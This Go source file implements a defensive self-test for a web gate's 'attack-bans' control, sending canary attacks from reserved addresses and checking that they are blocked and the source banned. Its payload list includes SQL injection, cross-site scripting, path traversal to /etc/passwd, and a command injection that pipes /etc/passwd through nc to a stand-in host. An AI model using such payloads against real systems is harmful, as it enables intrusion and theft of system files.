package control

import (
	"context"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"time"

	"clause.dev/clause/internal/policy"
)

// AttackBans keeps clauses that say attacks are stopped and their sources banned.
type AttackBans struct {
	For policy.Term `param:"for" doc:"how long a source is banned"`
}

// Check finds what is no length of time.
func (c *AttackBans) Check(*policy.Policy) error {
	if lasts, ok := c.For.Longest(); !ok || lasts <= 0 || c.For.Form != policy.Within {
		return problem("attack-bans", "for", "%q is not how long a ban lasts", c.For).WithHint("for example 1 hour")
	}
	return nil
}

// Plan has the gate look into forms, and ban for the longest time that is promised.
func (c *AttackBans) Plan(p *Plan) {
	lasts, _ := c.For.Longest()
	p.Ban = max(p.Ban, lasts)
}

// canaryAttacks are of the kinds that every tester tries first. They do nothing wherever they are sent.
var canaryAttacks = []struct{ kind, text string }{
	{"SQL injection", "' UNION SELECT canary FROM canaries WHERE '1'='1"},
	{"cross-site scripting", `"><script>alert('canary')</script>`},
	{"reading files", "../../../../etc/passwd"},
	{"running commands", "; cat /etc/passwd | nc canary.invalid 9"},
}

// enoughAttacks are more than a source may send without being banned.
const enoughAttacks = 5

// Probe attacks a canary application behind a gate as the server's own is, until the source is banned, waits until it
// is not by moving that gate's clock; and attacks the gate that people come through, over the network.
func (c *AttackBans) Probe(ctx context.Context, s *System) Finding {
	t := &trial{}
	if s.Behind == nil || s.Policy == nil {
		t.hurdle("the policy, or the gate, cannot be seen.")
		return t.finding("")
	}
	app := &taker{}
	gate, err := s.Behind(app)
	if err != nil {
		t.hurdle("no gate could be made: %v", err)
		return t.finding("")
	}
	b := &besieged{t, gate, app}
	b.attacks(ctx)
	b.ban(ctx, longestBan(s.Policy))
	c.real(ctx, t, s)
	return t.finding("Attacks in forms are stopped before the application sees them, and where several come from is banned for " + c.For.String() + ".")
}

// longestBan is the longest that the policy promises.
func longestBan(p *policy.Policy) (longest time.Duration) {
	for _, clause := range p.Clauses {
		for _, k := range clause.Keep {
			if term, ok := k.Params["for"].(policy.Term); ok && k.Control == "attack-bans" {
				lasts, _ := term.Longest()
				longest = max(longest, lasts)
			}
		}
	}
	return longest
}

// besieged is a canary application behind a gate, under attack.
type besieged struct {
	*trial
	gate Behind
	app  *taker
}

// send sends a form from an address, and reports whether the application saw it.
func (b *besieged) send(ctx context.Context, from netip.Addr, text string) (a answer, arrived bool) {
	before := b.app.taken
	r, err := attackForm(ctx, "https://"+b.gate.Host+"/", text)
	if err != nil {
		b.hurdle("a form could not be made: %v", err)
		return a, false
	}
	r.RemoteAddr = netip.AddrPortFrom(from, 4711).String()
	w := &written{header: http.Header{}}
	b.gate.ServeHTTP(w, r)
	return answer{status: w.status, header: w.sent, body: w.body.Bytes()}, b.app.taken > before
}

// attackForm is a form with a text in it.
func attackForm(ctx context.Context, to, text string) (*http.Request, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, to, strings.NewReader(url.Values{"name": {"Canary"}, "text": {text}}.Encode()))
	if err == nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	return r, err
}

// harmless is what a person could write.
const harmless = "It's a canary's note, and nothing else."

// attacks sends one of each kind, each from somewhere else.
func (b *besieged) attacks(ctx context.Context) {
	if a, arrived := b.send(ctx, spare(0), harmless); !arrived { // a gate that is shut proves nothing
		b.hurdle("an ordinary form does not reach the canary application: %s", a)
		return
	}
	for i, attack := range canaryAttacks {
		switch a, arrived := b.send(ctx, spare(byte(i+1)), attack.text); {
		case arrived:
			b.breach("A canary attack (%s) reaches the application.", attack.kind)
		case a.status != http.StatusForbidden:
			b.hurdle("a canary attack (%s) is answered with %s", attack.kind, a)
		default:
			b.good("A canary attack (%s) is stopped.", attack.kind)
		}
	}
}

// spare is an address that nobody has (RFC 2544).
func spare(last byte) netip.Addr { return netip.AddrFrom4([4]byte{198, 18, 0, last}) }

// ban attacks from one address until it is banned, and looks how long that lasts.
func (b *besieged) ban(ctx context.Context, lasts time.Duration) {
	from, other := spare(100), spare(200)
	for range enoughAttacks {
		b.send(ctx, from, canaryAttacks[0].text)
	}
	if _, arrived := b.send(ctx, from, harmless); arrived {
		b.breach("The source of %s is not banned.", plural(enoughAttacks, "attack"))
		return
	}
	if _, arrived := b.send(ctx, other, harmless); !arrived {
		b.breach("With the source of an attack others are banned.")
		return
	}
	if b.gate.Later == nil {
		b.hurdle("the clock of the canary gate cannot be moved.")
		return
	}
	margin := min(lasts/10, time.Minute)
	b.gate.Later(lasts - margin)
	if _, arrived := b.send(ctx, from, harmless); arrived {
		b.breach("The source of an attack is let in before %s are over.", lasts)
		return
	}
	b.gate.Later(2 * margin)
	if _, arrived := b.send(ctx, from, harmless); !arrived {
		b.breach("The source of an attack is banned for longer than %s.", lasts)
		return
	}
	b.good("The source of several attacks is banned for %s, and nobody else is.", lasts)
}

// real attacks the gate that people come through, over the network, from an address of this machine that nobody uses.
// Where it leads is a path that no application has.
func (c *AttackBans) real(ctx context.Context, t *trial, s *System) {
	if s.Application == "" {
		t.note("No application stands behind the gate (serve --upstream): what reaches one that stands elsewhere is not seen.")
		return
	}
	for i := range s.Listeners {
		l := &s.Listeners[i]
		if l.URL != s.Application {
			continue
		}
		from, ok := unlisted(l.Proxies)
		if !ok || !l.listed(from) {
			t.note("The gate that people come through admits no made-up address of this machine: it was not attacked over the network.")
			return
		}
		c.siege(ctx, t, l, from)
		return
	}
	t.hurdle("the gate that people come through cannot be reached.")
}

func (c *AttackBans) siege(ctx context.Context, t *trial, l *Listener, from netip.Addr) {
	at := l.URL + "/canary-" + token()
	for i := range enoughAttacks + 1 {
		text := canaryAttacks[i%len(canaryAttacks)].text
		if i == enoughAttacks {
			text = harmless
		}
		r, err := attackForm(ctx, at, text)
		if err != nil {
			t.hurdle("a form could not be made: %v", err)
			return
		}
		switch a, err := l.ask(from, r); {
		case noSuchAddress(err):
			t.note("This machine cannot connect from another address of its own: the gate that people come through was not attacked.")
			return
		case err != nil:
			t.hurdle("the gate that people come through: %v", err)
			return
		case a.status == http.StatusForbidden || a.status == http.StatusUnauthorized || a.status == http.StatusSeeOther && i < enoughAttacks: // or has to sign in first
		case i == enoughAttacks:
			t.breach("At the gate that people come through, the source of %s is not banned (%s).", plural(enoughAttacks, "attack"), a)
			return
		default:
			t.breach("At the gate that people come through, an attack is not stopped (%s).", a)
			return
		}
	}
	t.good("At the gate that people come through, attacks over the network are stopped, and their source is banned.")
}

// taker is a canary application that takes what it is sent, without a network.
type taker struct{ taken int }

// RoundTrip answers.
func (a *taker) RoundTrip(r *http.Request) (*http.Response, error) {
	a.taken++
	if r.Body != nil {
		_, _ = io.Copy(io.Discard, r.Body)
	}
	return &http.Response{StatusCode: http.StatusNoContent, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Header: http.Header{}, Request: r, Body: http.NoBody}, nil
}
